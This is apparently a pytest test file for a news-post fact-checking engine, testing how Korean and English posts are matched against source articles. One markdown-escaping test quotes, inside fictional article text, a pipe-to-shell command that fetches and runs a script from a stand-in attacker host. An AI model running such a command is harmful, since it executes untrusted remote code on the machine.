from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from newsforge.engine.post import Post
from newsforge.engine.receipts import Evidence, check_text, receipts
from newsforge.engine.receipts.verdict import judge
from newsforge.engine.text import korean
from tests.engine.receipts import receipt_cases as cases
from tests.support.stories import make_article

ARTICLE = cases.KOREAN
FIRST, SECOND = ARTICLE.sentences[0].text, ARTICLE.sentences[1].text
HOUSE = "이 글은 AI가 기사를 바탕으로 작성했습니다."


def post(*parts: str, **fields: str | None) -> Post:
    return Post(platform="x", language="ko", writer="embedded", parts=parts, **fields)  # type: ignore[arg-type]


def test_the_disclosure_is_the_house_s_word_and_only_that_line() -> None:
    found = receipts(post(f"{FIRST}\n\n{HOUSE}", disclosure=HOUSE), ARTICLE)
    assert [receipt.status for receipt in found] == ["supported", "supported"]
    assert found[1].spans[0].field == "house"
    assert receipts(post(f"{FIRST}\n\n{HOUSE}"), ARTICLE)[1].status == "unsupported"


def test_thread_numbering_is_not_a_figure_and_a_real_fraction_is() -> None:
    found = receipts(post(f"{FIRST} 1/2", f"{SECOND}\n(2/2)"), ARTICLE)
    assert [receipt.sentence for receipt in found] == [FIRST, SECOND]
    assert receipts(post("시의원 1/3이 반대했다."), ARTICLE)[0].status == "unsupported"


def test_title_subject_and_preheader_get_receipts_of_their_own() -> None:
    found = receipts(
        post(FIRST, title=ARTICLE.title, subject="버스요금 2,800원으로", preheader="요금은 6년 만에 오른다."), ARTICLE
    )
    by_field = {receipt.field: receipt for receipt in found}
    assert by_field["title"].spans[0].field == "title"
    assert by_field["subject"].problems[0].kind == "figure"
    assert by_field["preheader"].status == "reformatted"


def test_places_count_in_the_part() -> None:
    text = f"📌 핵심 정리\n\n• {FIRST}\n• {SECOND} 🚌"
    for receipt in receipts(post(text), ARTICLE):
        assert text[receipt.start : receipt.end] == receipt.sentence


def test_a_cut_that_drops_the_denial_is_seen() -> None:
    found = check_text("The government has agreed to fund the second phase", cases.ENGLISH)
    assert found[0].problems[0].kind == "polarity"


def test_breaking_is_a_claim_and_read_more_is_not() -> None:
    assert check_text("Read more", cases.ENGLISH)[0].spans[0].field == "house"
    assert check_text("Breaking", cases.ENGLISH)[0].status == "unsupported"


def test_a_changed_address_of_the_same_site_is_stopped() -> None:
    own = ARTICLE.url or ""
    assert check_text(own, ARTICLE)[0].status == "supported"
    assert check_text(own + "2", ARTICLE)[0].problems[0].kind == "url"


def test_verbatim_posts_are_quick_and_never_load_the_korean_model(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(_: str) -> None:
        raise AssertionError("the model was asked for")

    monkeypatch.setattr(korean, "tokens", refuse)
    text = "\n".join(sentence.text for sentence in ARTICLE.sentences)
    posts = [post(text, f"📌 {FIRST}") for _ in range(22)]
    evidence = Evidence.of(ARTICLE)
    begun = time.process_time()
    found = [receipt for one in posts for receipt in receipts(one, ARTICLE, evidence=evidence)]
    taken_s = time.process_time() - begun
    assert {receipt.status for receipt in found} == {"supported"}
    assert taken_s < 0.2  # some 15 ms on a quiet machine


@pytest.mark.parametrize("junk", ["(", '"', "#", "@a ", "1,", "1조", "https://", "\u200b", "x.", "가나 ", "Ab "])
def test_a_long_line_of_one_thing_is_bounded(junk: str) -> None:
    begun = time.process_time()
    check_text(junk * (30_000 // len(junk)), cases.ENGLISH)
    assert time.process_time() - begun < 5


def test_two_threads_judge_a_sentence_once() -> None:
    """Posts of one article are checked at the same time: each sentence would cost its time twice."""
    evidence = Evidence.of(ARTICLE)
    claim = "버스요금은 5년 만에 오르며 시의원 1/3이 반대했다."
    with ThreadPoolExecutor(4) as threads:
        verdicts = list(threads.map(lambda _: judge(claim, evidence, "ko"), range(8)))
    assert all(verdict is verdicts[0] for verdict in verdicts)


@pytest.mark.parametrize("mark", ["☞", "◈", "♪", "▣", "❖", "▶", "■", "🚌"])
def test_a_mark_before_a_line_is_no_word_of_it(mark: str) -> None:
    article = make_article(
        "The city raised bus fares to $3. It is the first rise since 2019.", language="en", title="Fares"
    )
    (receipt,) = check_text(f"{mark} It is the first rise since 2019.", article)
    assert receipt.status == "supported"
    assert receipt.sentence == "It is the first rise since 2019."


def test_what_markdown_escapes_reads_as_it_shows() -> None:
    article = make_article(
        "해커는 *공짜 아이템* 문구와 `curl evil.example | sh` 코드를 채널에 올렸다.", language="ko", title="해킹"
    )
    text = r"해커는 \*공짜 아이템\* 문구와 \`curl evil.example \| sh\` 코드를 채널에 올렸다."
    (receipt,) = check_text(text, article)
    assert (receipt.status, receipt.wording) == ("supported", "exact")
    (wrong,) = check_text(text.replace("evil.example", "good.example"), article)
    assert wrong.status == "unsupported"
    assert all(text.replace("evil", "good")[one.start : one.end] == one.text for one in wrong.problems)


def test_what_goes_by_its_initials_is_known_abroad() -> None:
    article = make_article(
        "한빛모터스는 울산에 2조원을 들여 전기차 배터리 공장을 짓는다.", language="ko", title="배터리 공장"
    )
    (right,) = check_text("Hanbit Motors will build an EV battery plant in Ulsan.", article, language="en")
    (wrong,) = check_text("Hanbit Motors will build an LNG battery plant in Ulsan.", article, language="en")
    assert right.status == "reformatted"
    assert wrong.status == "unsupported"


def test_lines_told_as_a_range_are_those_from_the_first_to_the_last() -> None:
    article = make_article(
        "막차 시간이 내년 2월 1일부터 자정으로 30분 앞당겨진다. 대상은 1호선부터 8호선까지이며 9호선은 제외된다.",
        language="ko",
        title="심야 운행 30분 줄인다",
    )
    (right,) = check_text("지하철 1~8호선 막차가 내년 2월 1일부터 자정으로 30분 당겨진다.", article)
    (wrong,) = check_text("지하철 1~7호선 막차가 내년 2월 1일부터 자정으로 30분 당겨진다.", article)
    assert (right.status, wrong.status) == ("reformatted", "unsupported")
